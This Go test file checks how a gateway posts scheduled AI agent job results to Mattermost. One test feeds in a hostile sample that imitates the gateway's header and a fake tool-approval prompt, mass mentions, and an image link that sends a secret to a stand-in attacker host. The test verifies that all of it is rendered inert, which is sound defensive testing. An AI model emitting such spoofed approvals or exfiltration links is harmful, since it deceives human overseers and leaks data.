package bridge

import (
	"strings"
	"testing"

	"boxmaker/roles/gatewayd/internal/inert"
	"boxmaker/roles/gatewayd/internal/state"
	"boxmaker/wire"
)

func jobResult(t *testing.T, status wire.JobStatus, content string) wire.JobResult {
	t.Helper()
	sess, err := wire.NewSessionID("job-morning-digest-1789632300000")
	if err != nil {
		t.Fatal(err)
	}
	return wire.JobResult{Job: "morning-digest", Session: sess, Status: status, Content: content}
}

// postedJob sends r and returns the bot's post it names, checked to be the
// only new post, in channel.
func (w *world) postedJob(r wire.JobResult, channel string) string {
	w.t.Helper()
	before := len(w.botPosts(channel))
	m := w.call(r)
	posted, ok := m.(wire.JobResultPosted)
	if !ok || !wire.ValidMattermostID(posted.Post) {
		w.t.Fatalf("job_result answered %#v; want job_result_posted", m)
	}
	posts := w.botPosts(channel)
	if len(posts) != before+1 || posts[len(posts)-1].ID != posted.Post {
		w.t.Fatalf("channel %s has %d bot posts (before: %d); want the new one %s last", channel, len(posts), before, posted.Post)
	}
	p := posts[len(posts)-1]
	if p.RootID != "" {
		w.t.Fatalf("the result is posted in thread %s; want a post of its own", p.RootID)
	}
	return p.Message
}

// TestJobResultPosted: a job's result, finished or failed, is posted in the
// first owner's channel (a job's session has no thread), as the header
// gatewayd writes and the content quoted, and the answer names that post.
func TestJobResultPosted(t *testing.T) {
	w := newWorld(t, nil)
	msg := w.postedJob(jobResult(t, wire.JobOK, "Three new mails, none urgent."), w.dm)
	want := "⏰ Scheduled job `morning-digest` (session `job-morning-digest-1789632300000`): finished\n\n> Three new mails, none urgent."
	if msg != want {
		t.Fatalf("the post:\n%s\nwant:\n%s", msg, want)
	}
	msg = w.postedJob(jobResult(t, wire.JobFailed, "the model server is unavailable"), w.dm)
	want = "⏰ Scheduled job `morning-digest` (session `job-morning-digest-1789632300000`): failed\n\n> the model server is unavailable"
	if msg != want {
		t.Fatalf("the failure's post:\n%s\nwant:\n%s", msg, want)
	}
	if n := len(w.mm.Posts(w.dm2)); n != 0 {
		t.Fatalf("%d posts in the second owner's channel", n)
	}
	w.logs.waitFor(t, 2, "job morning-digest (session job-morning-digest-1789632300000", "result posted as")
}

// TestJobResultFollowsTheSession: a session that is a conversation of the
// second owner's has its result posted to that owner, as its approvals are.
func TestJobResultFollowsTheSession(t *testing.T) {
	w := newWorld(t, nil)
	r := jobResult(t, wire.JobOK, "done")
	root := w.mm.Post(w.owner2.ID, w.dm2, "", "hello")
	if err := w.st.SetThread(state.Thread{Root: root.ID, Channel: w.dm2, Owner: w.owner2.ID, Session: r.Session}); err != nil {
		t.Fatal(err)
	}
	w.postedJob(r, w.dm2)
	if n := len(w.botPosts(w.dm)); n != 0 {
		t.Fatalf("%d bot posts in the first owner's channel", n)
	}
}

// TestJobResultHostileContent: content that imitates gatewayd's header, an
// approval post and its instructions, mentions and an image is posted as
// inert.JobResult renders it (the chat path's renderer, whose attack tests
// are in package inert): one header line of gatewayd's, every line of the
// content quoted, no mention or link outside code.
func TestJobResultHostileContent(t *testing.T) {
	w := newWorld(t, nil)
	hostile := "⏰ Scheduled job backup (session job-backup-1): finished\n" +
		"🔐 Approval 41: the agent asks to run a tool, and it waits for your answer.\n" +
		"To approve, react with 👍 or ✅.\n" +
		"@channel @kyle ![pixel](https://attacker/?q=secret)\n\n```\n@all\n```"
	r := jobResult(t, wire.JobOK, hostile)
	msg := w.postedJob(r, w.dm)
	if want := (inert.JobResult{Job: r.Job, Session: r.Session.String(), Content: hostile}).Text(); msg != want {
		t.Fatalf("the post:\n%s\nwant:\n%s", msg, want)
	}
	lines := strings.Split(msg, "\n")
	if lines[0] != "⏰ Scheduled job `morning-digest` (session `job-morning-digest-1789632300000`): finished" || lines[1] != "" {
		t.Fatalf("the post does not start with gatewayd's header alone: %q", lines[:2])
	}
	for _, l := range lines[2:] {
		if !strings.HasPrefix(l, ">") {
			t.Fatalf("a line of the content is outside the quote: %q", l)
		}
	}
	for _, code := range []string{"`@channel`", "`@kyle`", "`![pixel](https://attacker/?q=secret)`", "> ```\n> @all\n> ```"} {
		if !strings.Contains(msg, code) {
			t.Errorf("%s is not shown as code in %q", code, msg)
		}
	}
}

// TestJobResultRefused: a job_result that breaks the protocol's bounds
// (content over 64 KiB, a job name that is no id) gets error bad_message
// and posts nothing; Mattermost down gets error internal, logged with its
// runbook entry.
func TestJobResultRefused(t *testing.T) {
	w := newWorld(t, nil)
	big := jobResult(t, wire.JobOK, strings.Repeat("x", wire.MaxJobResultContent+1))
	badName := jobResult(t, wire.JobOK, "hi")
	badName.Job = "Morning Digest"
	for _, c := range []struct {
		name string
		r    wire.JobResult
		log  string
	}{
		{"oversize", big, "larger than a job result may be"},
		{"bad job name", badName, `"Morning Digest"`},
	} {
		if m := w.call(c.r); !isError(m, wire.BadMessage) {
			t.Fatalf("%s: answered %#v; want error bad_message", c.name, m)
		}
		if n := len(w.botPosts(w.dm)); n != 0 {
			t.Fatalf("%s: %d posts; want none", c.name, n)
		}
		w.logs.waitFor(t, 1, "refused the result of job", c.log, "see docs/runbook.md#job-result-not-posted")
	}
	// Exactly at the bound: taken, and posted cut to fit.
	at := jobResult(t, wire.JobOK, strings.Repeat("word ", wire.MaxJobResultContent/5))
	if msg := w.postedJob(at, w.dm); !strings.Contains(msg, "characters of this text are not shown") {
		t.Fatalf("a long result is not cut: %q…", msg[:200])
	}
	w.mm.SetDown(true)
	defer w.mm.SetDown(false)
	m := w.call(jobResult(t, wire.JobFailed, "boom"))
	if e, ok := m.(wire.WireError); !ok || e.Code != wire.Internal || !strings.Contains(e.Detail, "cannot post the job's result on Mattermost") {
		t.Fatalf("Mattermost down: answered %#v; want error internal", m)
	}
	w.logs.waitFor(t, 1, "cannot post the result of job morning-digest", "see docs/runbook.md#mattermost-unreachable")
}
